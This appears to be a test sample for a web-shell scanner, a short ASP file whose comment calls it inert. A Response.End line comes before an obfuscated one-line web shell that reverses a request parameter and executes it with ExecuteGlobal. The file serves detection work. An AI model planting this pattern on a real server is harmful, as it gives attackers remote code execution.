<% ' shellsweep test sample: inert, never functional
Response.End %>
<% a=request(chr(107)) ExecuteGlobal(StrReverse(a)) %>
